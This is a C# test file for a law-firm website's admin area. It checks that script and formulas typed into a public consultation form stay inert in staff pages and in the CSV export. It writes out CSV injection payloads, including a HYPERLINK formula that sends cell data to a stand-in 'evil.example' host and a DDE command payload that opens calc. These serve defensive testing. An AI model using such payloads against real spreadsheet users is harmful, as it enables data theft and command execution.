using System.Net;
using System.Text;
using Microsoft.EntityFrameworkCore;
using PiriSite.Domain.Accounts;
using PiriSite.Web.Tests.Infrastructure;

namespace PiriSite.Web.Tests.Areas.Admin;

/// <summary>
/// Anonymous input inside the staff's session, the riskiest path: what a visitor types into the consultation form
/// is shown to the Attorney in the inbox, the request page, search results, notes and the CSV export. Each is
/// submitted through the real form and looked at through a real signed-in session.
/// </summary>
public sealed class ConsultationInputShownToStaffTests(SiteFactory factory) : IClassFixture<SiteFactory>
{
    [Theory]
    [MemberData(nameof(XssVectors.Theory), MemberType = typeof(XssVectors))]
    public async Task ScriptTypedIntoTheConsultationFormIsInertWhereverStaffSeeIt(string vector)
    {
        using var visitor = factory.CreateClient();
        var form = await ConsultationForm.LoadAsync(visitor);
        var name = "Ana " + vector;
        var description = "What happened: " + vector + "\n\n" + vector;
        var values = ConsultationForm.ValidValues();
        values["FullName"] = name;
        values["Description"] = description;

        // The email and phone fields refuse the vector; the form shown again with the error shows it back inert.
        foreach (var (field, error) in new[] { ("Email", "Please check the email address"), ("Phone", "Please check the phone number") })
        {
            // Past its 30 characters, the phone field says so first.
            var expected = field == "Phone" && vector.Length > 30 ? "Please shorten this to 30 characters" : error;
            var refused = await form.PostAsync(visitor, new Dictionary<string, string>(values) { [field] = vector, ["IdempotencyKey"] = Guid.NewGuid().ToString() });
            var html = await refused.Content.ReadAsStringAsync();
            Assert.Equal(HttpStatusCode.UnprocessableEntity, refused.StatusCode);
            Assert.Contains(expected, html, StringComparison.Ordinal);
            XssVectors.AssertShownAsText(html, vector, $"the form refusing {field}");
        }

        Assert.Equal(HttpStatusCode.Redirect, (await form.PostAsync(visitor, values)).StatusCode);
        var reference = await ReferenceAsync(form["IdempotencyKey"]);
        using var staff = await SignInAttorneyAsync();

        var inbox = await staff.GetStringAsync("/admin/leads");
        XssVectors.AssertShownAsText(inbox, name, "the inbox");
        var page = await staff.GetStringAsync($"/admin/leads/{reference}");
        XssVectors.AssertShownAsText(page, name, "the request page");
        XssVectors.AssertShownAsText(page, "What happened: " + vector, "the request page");
        ActiveContent.AssertNone(await staff.GetStringAsync("/admin"), "the dashboard");

        // Staff notes are shown in the same session: they hold what callers said, so the same goes for them.
        Assert.Equal(HttpStatusCode.Redirect, (await staff.PostAsync($"/admin/leads/{reference}", Form(page, ("Note", "Note: " + vector)))).StatusCode);
        XssVectors.AssertShownAsText(await staff.GetStringAsync($"/admin/leads/{reference}"), "Note: " + vector, "the request page's notes");

        // Search: the term is shown back in the search box, the match in the list.
        var found = await staff.PostAsync("/admin/leads/search", Form(inbox, ("Q", vector)));
        var results = await found.Content.ReadAsStringAsync();
        Assert.Equal(HttpStatusCode.OK, found.StatusCode);
        XssVectors.AssertShownAsText(results, name, "the search results");
        Assert.Equal(vector, new AngleSharp.Html.Parser.HtmlParser().ParseDocument(results).GetElementById("Q")?.GetAttribute("value"));

        // The export is a download, never a page a browser would render, and holds the text as typed.
        var export = await staff.GetAsync("/admin/leads/export");
        Assert.Equal("text/csv", export.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", export.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal("nosniff", export.Headers.GetValues("X-Content-Type-Options").Single());
        var row = Csv.Parse(await export.Content.ReadAsStringAsync()).Single(r => r[0] == reference);
        Assert.Equal(name, row[3]);
        Assert.Equal(description, row[13]);
    }

    [Fact]
    public async Task FormulasTypedIntoTheConsultationFormArePlainTextInTheExport()
    {
        using var visitor = factory.CreateClient();
        var form = await ConsultationForm.LoadAsync(visitor);
        var values = ConsultationForm.ValidValues();
        values["FullName"] = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open the file\")";
        values["Phone"] = "+1 214 555 0100";
        values["Email"] = "-2+3@example.com";
        values["Description"] = "@SUM(1+1)*cmd|' /C calc'!A0";
        Assert.Equal(HttpStatusCode.Redirect, (await form.PostAsync(visitor, values)).StatusCode);
        var reference = await ReferenceAsync(form["IdempotencyKey"]);
        using var staff = await SignInAttorneyAsync();

        // A name that carries a web link puts the request in the quarantine (SpamSignals): exported from there.
        var rows = Csv.Parse(await staff.GetStringAsync("/admin/leads/export?view=spam"));

        var row = rows.Single(r => r[0] == reference);
        Assert.Equal("'" + values["FullName"], row[3]);
        Assert.Equal("'" + values["Phone"], row[4]);
        Assert.Equal("'" + values["Email"], row[5]);
        Assert.Equal("'" + values["Description"], row[13]);
        Assert.All(rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', $"a formula cell: {cell}"));
    }

    private async Task<string> ReferenceAsync(string idempotencyKey)
    {
        await using var scope = factory.CreateDbScope();
        var key = Guid.Parse(idempotencyKey);
        return await scope.Db.ConsultationRequests.Where(r => r.IdempotencyKey == key).Select(r => r.Reference).SingleAsync();
    }

    private async Task<HttpClient> SignInAttorneyAsync()
    {
        var (user, key) = await StaffSessions.CreateAsync(factory, $"{Guid.NewGuid():N}@pirisite.test", StaffRoles.Attorney);
        return await StaffSessions.SignInAsync(factory, user.Email!, key);
    }

    private static FormUrlEncodedContent Form(string page, params (string Name, string Value)[] fields) =>
        new(fields.Select(f => new KeyValuePair<string, string>(f.Name, f.Value)).Append(new("__RequestVerificationToken", StaffSessions.AntiforgeryToken(page))));
}
